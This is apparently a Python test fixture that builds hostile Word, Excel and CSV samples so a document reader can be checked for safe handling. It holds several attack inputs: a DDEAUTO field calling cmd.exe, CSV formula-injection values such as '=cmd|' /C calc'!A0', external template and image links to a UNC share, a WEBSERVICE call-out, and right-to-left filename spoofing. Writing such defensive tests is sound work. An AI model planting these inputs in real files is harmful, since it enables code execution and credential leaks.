"""Files that mean harm and are read all the same, as nothing in them acts; each with the note that must be given."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from dhr_desktop.readers.remarks import Remark
from tests.readers.building import (
    PR,
    R,
    cell,
    excel,
    excel_parts,
    paragraph,
    sheet_row,
    table,
    word,
    word_parts,
    zipped,
)

HostileRead = tuple[str, Callable[[], bytes], Remark | None, str]
"""Name, maker, the remark that must be made, and a text that must be found in what was read."""

FORMULAS: Final = ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", '=HYPERLINK("http://192.0.2.1")')


def _outside(kind: str, target: str) -> str:
    one = f'<Relationship Id="rId9" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{PR}">{one}</Relationships>'


def _template_on_a_share() -> bytes:
    rels = _outside("attachedTemplate", "file://///192.0.2.1/share/x.dotm")
    return zipped(word_parts(paragraph("Aldersford")) | {"word/_rels/document.xml.rels": rels})


def _picture_on_a_share() -> bytes:
    rels = _outside("image", r"\\\\192.0.2.1\\share\\x.png")
    drawing = '<w:p><w:r><w:drawing r:link="rId9"/></w:r></w:p>'
    parts = word_parts(drawing + paragraph("Aldersford"))
    return zipped(parts | {"word/_rels/document.xml.rels": rels})


def _other_workbook() -> bytes:
    parts = excel_parts(sheet_row(1, "Aldersford"))
    rels = str(parts["xl/_rels/workbook.xml.rels"])
    one = f'<Relationship Id="rId99" Type="{R}/externalLink" Target="externalLinks/1.xml"/></Relationships>'
    return zipped(parts | {"xl/_rels/workbook.xml.rels": rels.replace("</Relationships>", one)})


def _macros() -> bytes:
    return zipped(word_parts(paragraph("Aldersford")) | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def _excel_macros() -> bytes:
    return zipped(excel_parts(sheet_row(1, "Aldersford")) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def _dde_field() -> bytes:
    field = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"><w:r><w:t>Aldersford</w:t></w:r></w:fldSimple></w:p>'
    return word(field)


def _never_calculated() -> bytes:
    return excel(
        '<row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1")</f></c></row>' + sheet_row(2, "Aldersford")
    )


def _letters_that_turn() -> bytes:
    return word(paragraph("Aldersford \u202etxt.exe") + table([[cell("Alders\u200bford")]]))


def _formulas() -> bytes:
    return (
        "Aldersford;b\n" + "".join(f'1;"{value.replace(chr(34), chr(34) * 2)}"\n' for value in FORMULAS)
    ).encode()


def _utf7() -> bytes:
    return b"Aldersford,b\n+ADw-script+AD4-,2\n"


def _utf16_without_mark() -> bytes:
    return "Aldersford,b\n1,2\n".encode("utf-16-be")


READ: Final[tuple[HostileRead, ...]] = (
    ("macros.docm", _macros, Remark.MACROS, "Aldersford"),
    ("macros-renamed.docx", _macros, Remark.MACROS, "Aldersford"),
    ("macros.xlsm", _excel_macros, Remark.MACROS, "Aldersford"),
    ("template-share.docx", _template_on_a_share, Remark.OUTSIDE_LINKS, "Aldersford"),
    ("picture-share.docx", _picture_on_a_share, Remark.OUTSIDE_LINKS, "Aldersford"),
    ("other-workbook.xlsx", _other_workbook, Remark.OUTSIDE_LINKS, "Aldersford"),
    ("dde.docx", _dde_field, None, "Aldersford"),
    ("calls-home.xlsx", _never_calculated, Remark.NOT_CALCULATED, "Aldersford"),
    ("letters-turn.docx", _letters_that_turn, None, "Aldersford \u202etxt.exe"),
    ("formulas.csv", _formulas, None, FORMULAS[0]),
    ("utf7.csv", _utf7, None, "+ADw-script+AD4-"),
    ("utf16.csv", _utf16_without_mark, None, "Aldersford"),
)
